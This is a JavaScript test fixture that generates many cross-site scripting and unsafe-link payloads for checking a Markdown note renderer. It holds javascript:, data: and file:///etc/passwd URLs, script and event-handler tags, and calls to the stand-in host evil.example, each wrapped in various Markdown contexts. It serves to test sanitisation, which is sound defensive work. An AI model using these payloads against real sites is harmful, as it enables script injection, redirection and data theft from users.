/* Some hundred attempts to have a note run something, load something or leave: known tricks, put into
 * every place that Markdown offers. Each that ran would call a dialog or ask this host for something. */

const ADDRESSES = [
	"javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "javascript&colon;alert(1)",
	"&#106;avascript:alert(1)", "\u0001javascript:alert(1)", "javascript://%0aalert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
	"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "file:///etc/passwd",
	"blob:http://a/b", "about:blank", "filesystem:http://a/x", "view-source:http://a", "//evil.example/x", "/\\evil.example", "../../n/1",
	"intent://scan/#Intent;scheme=x;end", "tel:+1", "ws://evil.example", "jar:http://a!/", "x:y", "http:", "https://", "http://[::1", "javascript:/*--></title></style><script>alert(1)</script>",
];
const LINKS = [
	a => `[x](${a})`, a => `[x](<${a}>)`, a => `[x](${a} "title")`, a => `![x](${a})`, a => `<${a}>`, a => `[x]: ${a}\n\n[x]`,
	a => `[![a](${a})](${a})`, a => `- [ ] [x](${a})`, a => `## [x](${a})`, a => `> [x](${a})`, a => `! [x](${a})`, a => `**[x](${a})**`, a => a,
];
const TAGS = [
	"<script>alert(1)</script>", "<script src=//evil.example></script>", "<img src=x onerror=alert(1)>", "<img src=//evil.example/p.png>", "<svg onload=alert(1)>",
	"<svg><script>alert(1)</script></svg>", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<body onload=alert(1)>",
	"<style>@import '//evil.example/a.css';</style>", "<link rel=stylesheet href=//evil.example/a.css>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
	"<object data=//evil.example></object>", "<embed src=//evil.example>", "<video src=//evil.example autoplay onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
	"<details open ontoggle=alert(1)>", "<form action=//evil.example><button>x</button></form>", "<input autofocus onfocus=alert(1)>", "<a href=javascript:alert(1)>x</a>",
	"<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "<base href=//evil.example/>", "<div style=background:url(//evil.example)>", "<template><script>alert(1)</script></template>",
	"<!--<script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?>", "</textarea><script>alert(1)</script>", "<xss id=x tabindex=1 onfocus=alert(1)>",
	"<marquee onstart=alert(1)>", "\"><script>alert(1)</script>", "'-alert(1)-'", "${alert(1)}", "{{constructor.constructor('alert(1)')()}}",
];
const PLACES = [
	t => t, t => `# ${t}`, t => `- ${t}`, t => `- [x] ${t}`, t => `> ${t}`, t => `! ${t}`, t => `? ${t}`, t => `**${t}**`, t => `\`${t}\``,
	t => `\`\`\`${t}\n${t}\n\`\`\``, t => `[${t}](https://example.org)`, t => `![${t}](https://example.org/${t})`, t => `1. ${t}`, t => `a\n${t}\n===`,
];

export const PAYLOADS = [...ADDRESSES.flatMap(a => LINKS.map(link => link(a))), ...TAGS.flatMap(t => PLACES.map(place => place(t)))]
	.map(text => text.replace(/[\0\r]/g, ""));
